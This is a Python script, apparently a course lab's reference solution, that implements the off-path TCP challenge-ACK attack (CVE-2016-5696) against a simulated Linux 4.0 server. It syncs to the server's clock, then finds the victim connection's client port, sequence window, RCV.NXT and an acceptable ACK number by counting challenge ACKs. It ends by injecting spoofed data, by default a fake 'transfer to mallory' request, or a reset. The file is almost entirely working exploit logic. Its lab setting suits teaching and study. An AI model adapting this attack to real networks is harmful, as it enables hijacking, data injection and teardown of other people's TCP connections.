#!/usr/bin/env python3
"""challack.py -- the challenge-ACK lab's reference solution: Cao et al.'s off-path attack
(USENIX Security 2016, CVE-2016-5696) as a script under `tcplab attach`.

    tcplab attach --lab challenge-ack --student ID -q --record attack.rec -- \\
        python3 tests/labs/challack.py [--chunk N] [--reset] [--data TEXT]

Knows what the paper's attacker knows: the client's and the server's addresses and the
server's port (80). Opens one connection of its own to the server, then in rounds of one
second of the server's clock sends its spoofed probes followed by 100 in-window RSTs on its
own connection (each with one byte: Linux 4.0-4.6 spared segments with data from the per-
socket limit) and counts the challenge ACKs that come back: fewer than 100 means a probe
drew a challenge ACK from the victim connection. Stages, each marked in the transcript:
  0  find where the server's seconds begin (200 RSTs in one second, answered by arrival)
  1  the client's port: spoofed SYN-ACKs "from client:port" (chunks, then bisection)
  2  a sequence number in the server's receive window: spoofed RSTs one window apart
  3  an ACK number the server challenges: pure ACKs with ACK = 0, 1G, 2G, 3G
  4  RCV.NXT exactly: one-byte segments with that old ACK, many per round, counted
  5  an acceptable ACK: one-byte segments of old data, many ACK values per round, counted
  6  inject TEXT at RCV.NXT (or, with --reset, a RST at RCV.NXT)
Exit 0 when the injection (or reset) was sent; 1, with the stage that failed, when the
server's behaviour gave the counting nothing to read (Linux 4.7's random quota and per-
socket limit, Linux 6.0's missing host-wide budget). Prints one line per stage with the
virtual time it ended at, and `attack: ... in T s` at the end.
Standard library and the tcplab module only.
"""

import sys

import tcplab

BUDGET = 100            # Linux 3.6-4.6 tcp_challenge_ack_limit (the lab's linux-4.0)
EPH_LO, EPH_HI = 32768, 60999   # Linux ip_local_port_range
WINDOW_STEP = 64000     # below the server's receive window (64240 and up)
MARGIN = 0.150          # the round's datagrams reach the server this long into its second


class Failed(Exception):
    pass


class Attack(object):
    def __init__(self, s, chunk, verbose=True):
        self.s = s
        self.chunk = chunk
        self.verbose = verbose
        h = s.hosts()
        self.client, self.server = h["client"], h["server"]
        self.me = s.addr
        self.rounds = 0

    def log(self, text):
        if self.verbose:
            print("%8.3f  %s" % (self.s.now(), text), flush=True)
        self.s.note(text)

    # -- our own connection
    def open_own(self):
        s = self.s
        t0 = s.now()
        self.conn = s.connect(self.server, 80)
        synack = None
        for _ in range(50):
            for d in s.wait(0.01):
                if d.proto == 6 and d.src == self.server and "S" in d.flags and "A" in d.flags:
                    synack = d
            if synack and s.conn_state(self.conn) == "ESTABLISHED":
                break
        if not synack:
            raise Failed("no connection of our own to the server")
        self.rtt = synack.time - t0
        self.myport = synack.dport
        self.my_rcv_nxt = synack.ack      # the server's RCV.NXT on our connection
        self.log("own connection from port %d, RTT %.3f s" % (self.myport, self.rtt))

    def counting_rsts(self, n=BUDGET):
        return [tcplab.tcp_packet(self.me, self.server, self.myport, 80,
                                  seq=self.my_rcv_nxt + 1000 + i, flags="R", payload=b"x")
                for i in range(n)]

    def challenge_acks(self, got):
        return [d for d in got if d.proto == 6 and d.src == self.server and d.sport == 80
                and d.dport == self.myport and d.flags == "A" and not d.payload]

    # -- step 0: the server's seconds
    def sync(self):
        s = self.s
        s.wait(0.5)
        t0 = s.now()
        spacing = 1.0 / (2 * BUDGET)
        rsts = self.counting_rsts(2 * BUDGET)
        got = []
        for i, p in enumerate(rsts):
            s.send(p)
            got += s.wait(spacing)
        got += s.wait(self.rtt + 0.05)
        acks = self.challenge_acks(got)
        # the RST each answer was for, by arrival time
        idx = sorted(int(round((d.time - t0 - self.rtt) / spacing)) for d in acks)
        if len(idx) < BUDGET:
            raise Failed("step 0: %d of %d RSTs in one second answered: no host-wide budget "
                         "of %d to count against (a per-socket limit, or none)"
                         % (len(idx), 2 * BUDGET, BUDGET))
        # x RSTs fell in the server's first second: with x >= 100 its budget ran out and a
        # gap opens before the second one's first answer; with x < 100 all x and the next
        # second's first 100 are answered, one run of x + 100
        first_new = len(idx) - BUDGET
        for a, b in zip(idx, idx[1:]):
            if b - a > 1:
                first_new = b
        # RST i reached the server at t0 + i * spacing + rtt / 2
        boundary = t0 + first_new * spacing + self.rtt / 2
        self.phase = boundary % 1.0
        self.log("step 0: %d of %d answered; the server's seconds begin at .%03d"
                 % (len(idx), 2 * BUDGET, int(self.phase * 1000) % 1000))

    # -- one round: probes, then the counting RSTs, in one of the server's seconds
    def round(self, probes):
        s = self.s
        now = s.now()
        # next send time T with T + rtt/2 = a second's start + MARGIN
        k = now - self.phase - MARGIN + self.rtt / 2
        t = (int(k) + 1) + self.phase + MARGIN - self.rtt / 2
        while t < now + 1e-6:
            t += 1.0
        s.wait_until(t)
        s.send_many(list(probes) + self.counting_rsts())
        got = s.wait(min(0.8, self.rtt + 0.3))
        self.rounds += 1
        n = len(self.challenge_acks(got))
        return BUDGET - n              # challenge ACKs the probes took

    def hit(self, probes):
        return self.round(probes) > 0

    # -- step 1: the client's port
    def find_port(self):
        def probe(p):
            return tcplab.tcp_packet(self.client, self.server, p, 80, seq=12345, ack=67890,
                                     flags="SA")
        ports = list(range(EPH_LO, EPH_HI + 1))
        found = None
        for i in range(0, len(ports), self.chunk):
            part = ports[i:i + self.chunk]
            if self.hit(probe(p) for p in part):
                found = part
                break
        if not found:
            raise Failed("step 1: no port of %d-%d drew a challenge ACK" % (EPH_LO, EPH_HI))
        while len(found) > 1:
            half = found[:len(found) // 2]
            found = half if self.hit(probe(p) for p in half) else found[len(found) // 2:]
        self.cport = found[0]
        self.log("step 1: the client's port is %d" % self.cport)

    def spoof(self, seq, ack=0, flags="A", payload=b""):
        return tcplab.tcp_packet(self.client, self.server, self.cport, 80, seq=seq, ack=ack,
                                 flags=flags, payload=payload)

    # -- step 2: a sequence number in the window
    def find_in_window(self):
        seqs = list(range(0, 1 << 32, WINDOW_STEP))
        found = None
        for i in range(0, len(seqs), self.chunk):
            part = seqs[i:i + self.chunk]
            if self.hit(self.spoof(q, flags="R") for q in part):
                found = part
                break
        if not found:
            raise Failed("step 2: no RST of the sweep drew a challenge ACK")
        while len(found) > 1:
            half = found[:len(found) // 2]
            found = half if self.hit(self.spoof(q, flags="R") for q in half) \
                else found[len(found) // 2:]
        self.in_window = found[0]
        self.log("step 2: %d is in the server's receive window" % self.in_window)

    # -- step 3: an ACK number the server challenges (older than SND.UNA - MAX.SND.WND)
    def find_old_ack(self):
        for a in (0, 1 << 30, 2 << 30, 3 << 30):
            if self.hit([self.spoof(self.in_window, ack=a)]):
                self.old_ack = a
                self.log("step 3: ACK %d is challenged (older than SND.UNA - MAX.SND.WND)" % a)
                return
        raise Failed("step 3: none of ACK 0, 1G, 2G, 3G was challenged")

    def count_search(self, lo, hi, probe_of):
        """The least x in (lo, hi] with probe_of(x) challenged, knowing lo is not and hi is;
        several probes a round, the count telling how many were challenged."""
        k = BUDGET - 2
        while hi - lo > 1:
            step = max(1, (hi - lo) // (k + 1))
            xs = list(range(lo + step, hi, step))[:k]
            n = self.round(probe_of(x) for x in xs)
            # challenged exactly from the boundary up: the n largest of xs
            if n == 0:
                lo = xs[-1] if xs else lo
            elif n >= len(xs):
                hi = xs[0]
            else:
                lo, hi = xs[len(xs) - n - 1], xs[len(xs) - n]
        return hi

    # -- step 4: RCV.NXT. A one-byte segment with the old ACK is challenged when it is in
    # the window (end >= RCV.NXT); before it, it only draws a duplicate ACK.
    def find_rcv_nxt(self):
        lo = self.in_window - 65536
        left = self.count_search(lo, self.in_window,
                                 lambda x: self.spoof(x & 0xFFFFFFFF, ack=self.old_ack,
                                                      payload=b"x"))
        self.rcv_nxt = (left + 1) & 0xFFFFFFFF
        self.log("step 4: RCV.NXT is %d" % self.rcv_nxt)

    # -- step 5: an acceptable ACK: the least value above the challenged range. Probes carry
    # the byte before RCV.NXT (old data: acknowledged again, never delivered).
    def find_ack(self):
        old = self.old_ack
        lo, hi = old, old + (1 << 31) - 1     # lo challenged, hi not: the boundary between
        def probe(x):
            return self.spoof((self.rcv_nxt - 1) & 0xFFFFFFFF, ack=x & 0xFFFFFFFF, payload=b"x")
        # count_search wants "challenged above the boundary": search on the mirror image
        b = self.count_search(-hi, -lo, lambda y: probe(-y))
        self.ack = (-b + 1) & 0xFFFFFFFF
        self.log("step 5: ACK %d is acceptable (SND.UNA - MAX.SND.WND)" % self.ack)

    def inject(self, data, reset):
        s = self.s
        if reset:
            s.send(self.spoof(self.rcv_nxt, flags="R"))
            self.log("step 6: RST at RCV.NXT %d" % self.rcv_nxt)
        else:
            s.send(self.spoof(self.rcv_nxt, ack=self.ack, flags="PA", payload=data))
            self.log("step 6: %d bytes injected at RCV.NXT %d with ACK %d"
                     % (len(data), self.rcv_nxt, self.ack))
        s.wait(1.0)


def main(argv):
    chunk, reset, data = 5000, False, b"GET /transfer?to=mallory HTTP/1.0\r\n\r\n"
    i = 0
    while i < len(argv):
        if argv[i] == "--chunk":
            chunk = int(argv[i + 1]); i += 2
        elif argv[i] == "--reset":
            reset = True; i += 1
        elif argv[i] == "--data":
            data = argv[i + 1].encode(); i += 2
        else:
            print("usage: challack.py [--chunk N] [--reset] [--data TEXT]", file=sys.stderr)
            return 2
    s = tcplab.Session()
    a = Attack(s, chunk)
    start = s.now()
    try:
        a.open_own()
        t_begin = s.now()
        a.sync()
        a.find_port()
        a.find_in_window()
        a.find_old_ack()
        a.find_rcv_nxt()
        a.find_ack()
        a.inject(data, reset)
    except Failed as e:
        a.log("attack failed: %s" % e)
        print("attack: FAILED after %.1f s of virtual time, %d rounds: %s"
              % (s.now() - start, a.rounds, e), flush=True)
        return 1
    print("attack: %s in %.1f s of virtual time (%d rounds; port %d, RCV.NXT %d, ACK %d)"
          % ("reset" if reset else "injected", s.now() - t_begin, a.rounds, a.cport,
             a.rcv_nxt, a.ack), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
